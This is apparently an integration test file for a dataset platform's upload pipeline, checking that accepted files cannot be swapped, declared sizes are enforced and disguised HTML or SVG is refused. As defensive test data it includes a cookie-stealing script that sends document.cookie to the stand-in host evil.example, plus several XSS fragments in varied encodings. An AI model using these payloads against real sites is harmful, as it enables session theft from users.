import { createHash } from 'node:crypto';
import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { newUser, type TestUser } from './accounts';
import { api, uniqueTitle } from './client';
import { createDataset, eventually } from './fixtures';
import { localS3 } from './local-store';

/**
 * An accepted file's served bytes and checksum cannot diverge, whatever is sent afterwards, and the
 * sniffing sees HTML in every disguise. The local S3 checks no POST policy: each case here is refused by
 * finalize itself, through the real platform.
 */
let publisher: TestUser;
let contributor: TestUser;
const s3 = localS3();

beforeAll(async () => {
  [publisher, contributor] = await Promise.all([newUser(), newUser()]);
});
afterAll(() => s3.destroy());

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const text = (value: string) => new TextEncoder().encode(value);
const CSV = text('commune,population\nParis,2100000\nLyon,520000\n');
const HTML = text('<html><body><script>document.location="https://evil.example/?"+document.cookie</script>');

type Form = { url: string; fields: Record<string, string> };

async function sendForm(form: Form, bytes: Uint8Array) {
  const body = new FormData();
  for (const [name, value] of Object.entries(form.fields)) body.append(name, value);
  body.append('file', new Blob([bytes]), 'file');
  const response = await fetch(form.url, { method: 'POST', body });
  expect(response.status, await response.text()).toBeLessThan(300);
}

async function resourceNow(path: string, headers: Record<string, string>) {
  const response = await api.getWith(path, headers);
  expect(response.status, response.text).toBe(200);
  return response.json;
}

async function objectsUnder(prefix: string): Promise<string[]> {
  const listed = await s3.send(new ListObjectsV2Command({ Bucket: inject('bucketName'), Prefix: prefix }));
  return (listed.Contents ?? []).map((object) => object.Key!);
}

async function served(rid: string): Promise<Uint8Array> {
  const redirect = await fetch(api.url(`/api/1/datasets/r/${rid}`), { redirect: 'manual' });
  expect(redirect.status).toBe(302);
  const file = await fetch(redirect.headers.get('location')!);
  return new Uint8Array(await file.arrayBuffer());
}

/** Declares a file of `size` bytes to a dataset; the resource path and the presigned form. */
async function declareFile(datasetId: string, file: { filename: string; size: number; mime: string }) {
  const answer = await api.post(`/api/1/datasets/${datasetId}/upload/`, file, publisher.headers);
  expect(answer.status, answer.text).toBe(201);
  return {
    path: `/api/1/datasets/${datasetId}/resources/${answer.json.resource.id}/`,
    rid: answer.json.resource.id as string,
    upload: answer.json.upload as Form & { id: string; max_bytes: number },
  };
}

const finalized = (path: string, uploadId: string) =>
  eventually(
    () => resourceNow(path, publisher.headers),
    (resource) => resource.upload?.id === uploadId && resource.upload.status !== 'pending',
    'not finalized',
  );

describe('an accepted file cannot be swapped', () => {
  it('a form sent again after finalize accepted it changes neither the bytes served nor the checksum', async () => {
    const dataset = await createDataset(publisher);
    const declared = await declareFile(dataset.id, {
      filename: 'communes.csv',
      size: CSV.length,
      mime: 'text/csv',
    });
    await sendForm(declared.upload, CSV);
    const accepted = await finalized(declared.path, declared.upload.id);
    expect(accepted).toMatchObject({ status: 'available', filesize: CSV.length, sha256: sha256(CSV) });
    // Accepted, the uploaded object is gone: the file is served from finalize's copy.
    const uploadPrefix = `datasets/${dataset.id}/${declared.rid}/`;
    await eventually(
      () => objectsUnder(uploadPrefix),
      (keys) => keys.length === 0,
      'the upload stayed',
    );

    // The same form, within its 15 minutes, with other bytes of the same size (an HTML page).
    const swap = new Uint8Array(CSV.length).fill(0x20);
    swap.set(HTML.subarray(0, CSV.length));
    await sendForm(declared.upload, swap);
    // Finalize sees the second object and deletes it: nothing is left at the upload key.
    await eventually(
      () => objectsUnder(uploadPrefix),
      (keys) => keys.length === 0,
      'the second send stayed',
    );

    expect(await served(declared.rid)).toEqual(CSV);
    expect(await resourceNow(declared.path, publisher.headers)).toMatchObject({
      status: 'available',
      filesize: CSV.length,
      sha256: sha256(CSV),
      upload: { id: declared.upload.id, status: 'available' },
    });
  });

  it('a community resource form sent again changes nothing either', async () => {
    const dataset = await createDataset(publisher);
    const answer = await api.post(
      `/api/1/datasets/${dataset.id}/upload/community/`,
      { filename: 'contrib.csv', size: CSV.length, mime: 'text/csv' },
      contributor.headers,
    );
    expect(answer.status, answer.text).toBe(201);
    const path = `/api/1/datasets/community_resources/${answer.json.resource.id}/`;
    await sendForm(answer.json.upload, CSV);
    await eventually(
      () => resourceNow(path, contributor.headers),
      (resource) => resource.status === 'available',
      'not accepted',
    );
    await eventually(
      () => objectsUnder(`datasets/${dataset.id}/${answer.json.resource.id}/`),
      (keys) => keys.length === 0,
      'the upload stayed',
    );
    const swap = new Uint8Array(CSV.length).fill(0x41);
    await sendForm(answer.json.upload, swap);
    await eventually(
      () => objectsUnder(`datasets/${dataset.id}/${answer.json.resource.id}/`),
      (keys) => keys.length === 0,
      'the second send stayed',
    );
    expect(await served(answer.json.resource.id)).toEqual(CSV);
    expect((await resourceNow(path, contributor.headers)).sha256).toBe(sha256(CSV));
  });

  it('a multipart upload, once complete and accepted, cannot be completed again', async () => {
    const dataset = await createDataset(publisher);
    const answer = await api.post(
      `/api/1/datasets/${dataset.id}/upload/multipart/`,
      { filename: 'small.csv', size: CSV.length, mime: 'text/csv' },
      publisher.headers,
    );
    expect(answer.status, answer.text).toBe(201);
    const { links, id } = answer.json.upload;
    const parts = await api.post(
      links.parts.replace(api.url(''), ''),
      { part_numbers: [1] },
      publisher.headers,
    );
    expect(parts.status, parts.text).toBe(200);
    const put = await fetch(parts.json.parts[0].url, { method: 'PUT', body: CSV });
    expect(put.status).toBe(200);
    const complete = await api.post(links.complete.replace(api.url(''), ''), {}, publisher.headers);
    expect(complete.status, complete.text).toBe(202);
    const path = `/api/1/datasets/${dataset.id}/resources/${answer.json.resource.id}/`;
    expect(await finalized(path, id)).toMatchObject({ status: 'available', sha256: sha256(CSV) });

    const again = await api.post(links.complete.replace(api.url(''), ''), {}, publisher.headers);
    expect(again.status).toBe(409);
    expect(await served(answer.json.resource.id)).toEqual(CSV);
    // Served from the accepted copy, which no upload can write.
    expect(await objectsUnder(`files/${dataset.id}/${answer.json.resource.id}/${id}/`)).toHaveLength(1);
  });
});

describe('the declared size is the size', () => {
  it('refuses 6,000 bytes sent for 10 declared (the policy says 10 to 10; the local S3 checks no policy)', async () => {
    const dataset = await createDataset(publisher);
    const declared = await declareFile(dataset.id, { filename: 'tiny.csv', size: 10, mime: 'text/csv' });
    expect(declared.upload.max_bytes).toBe(10);
    await sendForm(declared.upload, new Uint8Array(6000).fill(0x61));
    const refused = await finalized(declared.path, declared.upload.id);
    expect(refused).toMatchObject({ status: 'refused', filesize: null, upload: { status: 'refused' } });
    expect(refused.upload.reason).toMatch(/10 bytes/);
    expect(await objectsUnder(`datasets/${dataset.id}/${declared.rid}/`)).toEqual([]);
    expect(await objectsUnder(`files/${dataset.id}/${declared.rid}/`)).toEqual([]);
  });

  it('refuses fewer bytes than declared', async () => {
    const dataset = await createDataset(publisher);
    const declared = await declareFile(dataset.id, { filename: 'short.csv', size: 100, mime: 'text/csv' });
    await sendForm(declared.upload, CSV);
    const refused = await finalized(declared.path, declared.upload.id);
    expect(refused.upload.reason).toBe(`The file is ${CSV.length} bytes but 100 bytes were declared.`);
  });
});

describe('HTML and SVG in every disguise are refused', () => {
  const utf16le = (value: string, bom: boolean) =>
    new Uint8Array([...(bom ? [0xff, 0xfe] : []), ...[...value].flatMap((c) => [c.charCodeAt(0), 0])]);
  const utf16be = (value: string, bom: boolean) =>
    new Uint8Array([...(bom ? [0xfe, 0xff] : []), ...[...value].flatMap((c) => [0, c.charCodeAt(0)])]);
  const page = '<html><body><script>alert(document.cookie)</script></body></html>';
  const concat = (...parts: Uint8Array[]) => {
    const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
    let offset = 0;
    for (const part of parts) {
      out.set(part, offset);
      offset += part.length;
    }
    return out;
  };
  const cases: [string, Uint8Array, string, string][] = [
    ['UTF-16LE HTML with a BOM', utf16le(page, true), 'data.csv', 'text/csv'],
    ['UTF-16LE HTML without a BOM', utf16le(page, false), 'data.csv', 'text/csv'],
    ['UTF-16BE HTML with a BOM', utf16be(page, true), 'data.csv', 'text/csv'],
    ['UTF-16BE HTML without a BOM', utf16be(page, false), 'data.csv', 'text/csv'],
    ['UTF-8 HTML with a BOM', concat(new Uint8Array([0xef, 0xbb, 0xbf]), text(page)), 'data.csv', 'text/csv'],
    ['HTML after one NUL byte', concat(new Uint8Array([0]), text(page)), 'data.csv', 'text/csv'],
    ['HTML after 3,000 spaces', text(' '.repeat(3000) + page), 'data.csv', 'text/csv'],
    ['HTML after 12,000 spaces', text(' '.repeat(12_000) + page), 'data.txt', 'text/plain'],
    ['a <script> fragment', text('<script>alert(1)</script>'), 'data.csv', 'text/csv'],
    ['an <iframe> fragment', text('<iframe src="https://evil.example/"></iframe>'), 'data.csv', 'text/csv'],
    ['an <svg onload> fragment', text('<svg onload=alert(1)>'), 'data.csv', 'text/csv'],
    ['an <a href> fragment', text('<a href="https://evil.example/">x</a>'), 'data.json', 'application/json'],
    [
      'an SVG image with a script, by content',
      text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'map.xml',
      'application/xml',
    ],
    ['HTML with no name or type to tell', text(`\u0000\u0000${page}`), 'export', 'application/octet-stream'],
  ];
  it.each(cases)('refuses %s', async (_name, bytes, filename, mime) => {
    const dataset = await createDataset(publisher);
    const declared = await declareFile(dataset.id, { filename, size: bytes.length, mime });
    await sendForm(declared.upload, bytes);
    const refused = await finalized(declared.path, declared.upload.id);
    expect(refused).toMatchObject({ status: 'refused', upload: { status: 'refused' } });
    expect(refused.upload.reason).toMatch(/HTML/);
    expect(await objectsUnder(`datasets/${dataset.id}/${declared.rid}/`)).toEqual([]);
    expect(await objectsUnder(`files/${dataset.id}/${declared.rid}/`)).toEqual([]);
  });

  it('refuses an SVG up front (415), by name and by declared type', async () => {
    const dataset = await createDataset(publisher);
    for (const file of [
      { filename: 'logo.svg', size: 10, mime: 'application/octet-stream' },
      { filename: 'logo', size: 10, mime: 'image/svg+xml' },
    ]) {
      const answer = await api.post(`/api/1/datasets/${dataset.id}/upload/`, file, publisher.headers);
      expect(answer.status).toBe(415);
      expect(answer.headers.get('content-type')).toContain('application/problem+json');
      expect(answer.json.detail).toMatch(/SVG/);
    }
  });
});
